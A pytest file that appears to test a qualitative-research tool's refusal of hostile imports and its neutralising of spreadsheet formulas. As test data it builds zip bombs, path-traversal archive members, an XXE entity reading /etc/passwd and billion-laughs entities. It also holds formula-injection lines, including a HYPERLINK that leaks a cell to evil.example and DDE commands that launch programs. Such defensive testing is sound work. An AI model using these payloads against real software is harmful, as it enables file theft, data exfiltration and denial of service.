"""Hostile files: each is refused with one clear line (or neutralised), and the study is unchanged.

Zip bombs, escaping member names, XML entities (external and exponential), invalid UTF-8, binary data
behind a text extension, oversized files, spreadsheet formulas in transcripts.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest

from qualframe.coding.manual import add_coding
from qualframe.errors import InputError, QualframeError
from qualframe.imports import import_files
from qualframe.io.archive import open_zip
from qualframe.io.spreadsheet import DANGEROUS_PREFIXES
from qualframe.outputs import export
from qualframe.store.study import Study
from tests.conftest import files_in, snapshot

WriteFile = Callable[[str, str | bytes], Path]
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
) + "]>"  # fmt: skip
QDC = '<?xml version="1.0"?>{dtd}<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="{g}" name="&{e};" isCodable="true"/></Codes></CodeBook>'
QDE = '<?xml version="1.0"?>{dtd}<Project xmlns="urn:QDA-XML:project:1.0" name="&{e};"/>'


def word(paragraphs: list[str]) -> bytes:
    buf = io.BytesIO()
    document = docx.Document()
    for p in paragraphs:
        document.add_paragraph(p)
    document.save(buf)
    return buf.getvalue()


def rezip(
    data: bytes, change: Callable[[str, bytes], tuple[str, bytes]], extra: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name, body = change(info.filename, src.read(info.filename))
            dst.writestr(name, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def docx_with_dtd(dtd: str, entity: str) -> bytes:
    def change(name: str, body: bytes) -> tuple[str, bytes]:
        if name == "word/document.xml":
            text = (
                body.decode()
                .replace("<w:document", dtd + "<w:document", 1)
                .replace("PLACEHOLDER", f"&{entity};")
            )
            return name, text.encode()
        return name, body

    return rezip(word(["Interviewer: Hello?", "P01: PLACEHOLDER"]), change)


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return out.getvalue()


BOMB = b"\x00" * (20 * 1024**2)  # 20 MB of zeros: about 20 KB compressed
QDPX_PROJECT = b'<?xml version="1.0"?><Project xmlns="urn:QDA-XML:project:1.0" name="p"/>'

CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "docx zip bomb": (
        "bomb.docx",
        lambda: rezip(word(["P01: hi"]), lambda n, b: (n, b), {"word/media/x.bin": BOMB}),
        "zip bomb",
    ),
    "docx path traversal": (
        "escape.docx",
        lambda: rezip(word(["P01: hi"]), lambda n, b: (n, b), {"../../evil.txt": b"x"}),
        "unsafe file name",
    ),
    "docx external entity": (
        "xxe.docx",
        lambda: docx_with_dtd(XXE.replace("x [", "w:document ["), "xxe"),
        "entities or a DTD",
    ),
    "docx billion laughs": (
        "laughs.docx",
        lambda: docx_with_dtd(LAUGHS.replace("x [", "w:document ["), "a9"),
        "entities or a DTD",
    ),
    "qdc external entity": (
        "xxe.qdc",
        lambda: QDC.format(dtd=XXE, g="a" * 8 + "-aaaa-aaaa-aaaa-" + "a" * 12, e="xxe").encode(),
        "entities or a DTD",
    ),
    "qdc billion laughs": (
        "laughs.qdc",
        lambda: QDC.format(dtd=LAUGHS, g="a" * 8 + "-aaaa-aaaa-aaaa-" + "a" * 12, e="a9").encode(),
        "entities or a DTD",
    ),
    "qdpx zip bomb": (
        "bomb.qdpx",
        lambda: zipped({"project.qde": QDPX_PROJECT, "sources/big.txt": BOMB}),
        "zip bomb",
    ),
    "qdpx path traversal": (
        "escape.qdpx",
        lambda: zipped({"project.qde": QDPX_PROJECT, "../../evil.txt": b"x"}),
        "unsafe file name",
    ),
    "qdpx billion laughs": (
        "laughs.qdpx",
        lambda: zipped({"project.qde": QDE.format(dtd=LAUGHS, e="a9").encode()}),
        "entities or a DTD",
    ),
    "invalid UTF-8": (
        "broken.txt",
        lambda: b"Interviewer: Hi?\n\nP01: caf\xc3\x28 \x81\x8d\x8f\x90\n",
        "not valid UTF-8",
    ),
    "binary behind .txt": (
        "photo.txt",
        lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "binary",
    ),
    "binary behind .vtt": ("photo.vtt", lambda: b"\x00\x01\x02\x03" * 100, "binary"),
    "binary behind .csv": ("photo.csv", lambda: b"\x00\x01\x02\x03" * 100, "binary"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_files_are_refused_with_one_line_and_change_nothing(
    study: Study, write_file: WriteFile, case: str
) -> None:
    name, make, message = CASES[case]
    if name.endswith(".qdpx") and importlib.util.find_spec("qualframe.io.refi_project") is None:
        with pytest.raises(InputError, match=message):  # no importer yet: the shared guard itself
            open_zip(make(), name)
        return
    path = write_file(name, make())
    good = write_file("good.txt", "Interviewer: Hi?\n\nP01: Fine.\n")
    before, files = snapshot(study.path), files_in(study.path)
    paths = [path] if name.endswith(".qdpx") else [good, path]  # a good file alongside is not imported either
    with pytest.raises(QualframeError, match=message) as error:
        import_files(study, paths, user="tester")
    assert "\n" not in str(error.value) and "/etc/passwd" not in str(error.value)
    assert snapshot(study.path) == before and files_in(study.path) == files


def test_an_oversized_file_is_refused_before_it_is_read(
    study: Study, write_file: WriteFile, monkeypatch
) -> None:
    monkeypatch.setenv("QUALFRAME_MAX_IMPORT_MB", "1")
    path = write_file("huge.txt", "Interviewer: Hi?\n\nP01: " + "word " * 300_000)
    before = snapshot(study.path)
    with pytest.raises(InputError, match=r"over the 1(\.00)? MB import limit"):
        import_files(study, [path], user="tester")
    assert snapshot(study.path) == before


def test_the_command_line_says_it_in_one_line(cli, tmp_path: Path) -> None:
    folder = tmp_path / "s"
    assert cli("init", folder).returncode == 0
    bomb = tmp_path / "bomb.docx"
    _, make, _ = CASES["docx zip bomb"]
    bomb.write_bytes(make())
    binary = tmp_path / "photo.txt"
    binary.write_bytes(CASES["binary behind .txt"][1]())
    before = snapshot(folder)
    for path, words in ((bomb, "zip bomb"), (binary, "binary")):
        result = cli("import", folder, path)
        assert result.returncode == 2 and result.stderr.count("\n") == 1 and words in result.stderr
        assert "Traceback" not in result.stderr
    assert snapshot(folder) == before


def test_formulas_in_transcripts_are_neutralised_in_spreadsheets(
    study: Study, write_file: WriteFile, tmp_path: Path
) -> None:
    lines = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C notepad'!B1",
        "-2+3+cmd|' /C write'!C2",
    ]
    transcript = "Interviewer: What happened?\n\n" + "".join(f"P01: {line}\n\n" for line in lines)
    import_files(study, [write_file("P01.txt", transcript)], user="tester")
    for line in lines:
        add_coding(study, source="P01", code="Pre-use", quote=line, coder="tester")
    rows = list(
        csv.reader(
            io.StringIO(export(study, "quotes-csv", tmp_path / "q.csv").read_bytes().decode("utf-8-sig"))
        )
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(DANGEROUS_PREFIXES) for cell in cells)
    assert {f"'{line}" for line in lines} <= set(cells)
    sheet = openpyxl.load_workbook(export(study, "quotes-xlsx", tmp_path / "q.xlsx"))["Quotes"]
    quoted = [
        c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value in lines
    ]
    assert len(quoted) == len(lines)
    assert all(c.data_type == "s" and c.quotePrefix for c in quoted)  # shown as text, never evaluated
